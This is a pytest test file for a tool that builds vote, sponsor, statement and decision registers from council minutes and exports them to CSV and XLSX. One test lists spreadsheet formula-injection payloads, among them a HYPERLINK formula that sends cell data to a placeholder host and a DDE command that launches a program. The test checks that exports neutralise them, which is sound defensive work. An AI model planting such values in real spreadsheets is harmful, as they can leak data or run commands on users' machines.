"""Registers of votes, sponsors, statements and decisions, and the files they are written to."""

import csv
import io
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from onrecord.rag import Library, open_library
from onrecord.rag.tools.registers import KINDS, Kind, Wanted, is_of
from onrecord.rag.tools.rows import COLUMNS, as_csv, page_of_rows, row_json, table, write_xlsx
from onrecord.vectorstore.errors import InputError

from ..fakes import HashEmbedder

MINUTES = """Minutes of the Harbour Council, 3 May 2031

## Tide tables

Councillor Lind: The tables should be printed. They are overdue.

Councillor Okafor: They are.

Moved by Councillor Lind, seconded by Councillor Okafor: That the tide tables be printed. Carried on a vote.

In favour: Guinea-Bissau, Guinea, Türkiye
Against: Norway
Abstaining: Peru, Chile

## Lamps

Councillor Roe: The outer lamp of the Harbour Board (HB) failed twice.

Action: Okafor to report on the lamp by 1 June 2031.
"""


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    folder = tmp_path_factory.mktemp("registers")
    (folder / "minutes.md").write_text(MINUTES)
    (folder / "later.md").write_text(MINUTES.replace("2031", "2032").replace("Norway", "=Norway"))
    with open_library(folder / "library", embedder=HashEmbedder()) as library:
        assert not library.ingest([folder / "minutes.md", folder / "later.md"]).failed
        yield library


def told(library: Library, kind: Kind, **wanted: str) -> list[tuple[str, str | None]]:
    return [(row.what, row.who) for row in library.register(kind, Wanted(**wanted))]


def test_each_name_is_a_row_with_its_own_place(library: Library) -> None:
    rows = library.register("votes", Wanted(until="2031"))
    assert [(row.what, row.who) for row in rows] == [
        ("for", "Guinea-Bissau"), ("for", "Guinea"), ("for", "Türkiye"), ("against", "Norway"),
        ("abstained", "Peru"), ("abstained", "Chile"),
    ]  # fmt: skip
    for row in rows:
        citation = row.citation
        assert citation.document.text[citation.start : citation.end] == citation.quote == row.who
    guinea = rows[1].citation
    assert MINUTES[guinea.start - 2 : guinea.start] == ", " and guinea.start > rows[0].citation.end


def test_rows_are_chosen_by_name_subject_record_and_date(library: Library) -> None:
    assert told(library, "votes", who="Turkey") == [("for", "Türkiye")] * 2
    assert told(library, "votes", who="Guinea", since="2032") == [("for", "Guinea")]
    assert told(library, "votes", who="Turkey", document="later.md") == [("for", "Türkiye")]
    assert len(told(library, "votes", about="tide tables", until="2031")) == 6
    assert told(library, "votes", about="lamps") == []
    assert told(library, "votes", who="Nowhere") == []


STYLES = """# Hearing on lamps

**Ms Lind**: Good morning. I call Mr Roe.

**Mr Roe**: I saw the lamp go out.

**Ms Lind**: Thank you.

**Mr Roe**: Thank you, too.
"""


def test_a_statement_is_quoted_without_the_label_however_it_is_printed(tmp_path: Path) -> None:
    (tmp_path / "hearing.md").write_text(STYLES)
    with open_library(tmp_path / "library", embedder=HashEmbedder()) as library:
        library.ingest([tmp_path / "hearing.md"])
        told = [(row.who, row.citation.quote) for row in library.register("statements")]
    assert told[:3] == [("Ms Lind", "Good morning."), ("Mr Roe", "I saw the lamp go out."), ("Ms Lind", "Thank you.")]


def test_statements_open_with_their_first_sentence(library: Library) -> None:
    rows = library.register("statements", Wanted(until="2031", who="Lind"))
    assert [row.citation.quote for row in rows] == ["The tables should be printed."]
    assert rows[0].item.endswith("Tide tables")


def test_decisions_tell_who_is_to_do_what_by_when(library: Library) -> None:
    [action] = [row for row in library.register("decisions", Wanted(until="2031")) if row.what == "action"]
    assert action.who == "Okafor" and action.outcome and action.outcome.due == "1 June 2031"


def test_movers_and_seconders_are_sponsors(library: Library) -> None:
    rows = library.register("sponsors", Wanted(until="2031"))
    assert {(row.what, row.who) for row in rows} == {("mover", "Lind"), ("seconder", "Okafor")}


def test_a_register_that_there_is_not(library: Library) -> None:
    with pytest.raises(InputError, match="no register of 'ballots'"):
        library.register("ballots")  # pyright: ignore[reportArgumentType]


def test_a_page_of_rows_counts_all(library: Library) -> None:
    rows = library.register("votes")
    page = page_of_rows("votes", rows, 2, 3)
    assert page["total"] == 12 and page["rows"] == [row_json(row) for row in rows[2:5]]


@pytest.mark.parametrize("kind", KINDS)
def test_tables_have_a_cell_for_each_column(library: Library, kind: Kind) -> None:
    assert {len(cells) for cells in table(library.register(kind))} == {len(COLUMNS)}


def test_a_cell_is_never_a_formula(library: Library, tmp_path: Path) -> None:
    rows = library.register("votes", Wanted(since="2032"))
    assert "=Norway" in {row.who for row in rows}
    read = list(csv.DictReader(io.StringIO(as_csv(rows))))
    assert [cell for row in read for cell in row.values() if cell.startswith("=")] == []
    assert "'=Norway" in {row["who"] for row in read}
    write_xlsx(rows, tmp_path / "votes.xlsx")
    head, *lines = CalamineWorkbook.from_path(tmp_path / "votes.xlsx").get_sheet_by_index(0).to_python()
    assert tuple(head) == COLUMNS and len(lines) == len(rows)
    assert "=Norway" in {line[3] for line in lines}


FORMULAS = (
    '=HYPERLINK("http://elsewhere.example?"&A1,"here")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
    "\n=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b =1", "\0=1", "＝1", "＋1", "－1", "＠SUM(1)",
)  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_field_of_any_export_is_a_formula(library: Library, tmp_path: Path, formula: str) -> None:
    [row, *_] = library.register("decisions", Wanted(since="2032"))
    document = replace(row.citation.document, symbol=formula, title=formula, date=formula, id=formula)
    citation = replace(row.citation, document=document, quote=formula)
    outcome = replace(row.outcome, due=formula) if row.outcome else None
    hostile = replace(row, citation=citation, item=formula, what=formula, who=formula, outcome=outcome)
    [cells] = csv.DictReader(io.StringIO(as_csv([hostile])))
    written = [cell for name, cell in cells.items() if name not in ("for", "against", "abstained", "start", "end")]
    assert len(written) == 9 and all(cell.startswith("'" + formula.replace("\r", "\n")) for cell in written if cell)
    assert sum(map(bool, written)) >= 8
    write_xlsx([hostile], tmp_path / "rows.xlsx")
    with zipfile.ZipFile(tmp_path / "rows.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<f " not in sheet and b"<hyperlink" not in sheet


def test_a_workbook_that_cannot_be_written_is_named(library: Library, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"no-folder.*cannot be written"):
        write_xlsx(library.register("votes"), tmp_path / "no-folder" / "votes.xlsx")


@pytest.mark.parametrize(
    ("wanted", "name", "same"),
    [
        ("Turkey", "TÜRKİYE", True),
        ("Guinea", "Guinea-Bissau", False),
        ("Roe", "Councillor Roe", True),
        ("Roe", "Roebuck", False),
    ],
)
def test_of_whom_a_row_is(wanted: str, name: str, same: bool) -> None:
    assert is_of(wanted, name) is same
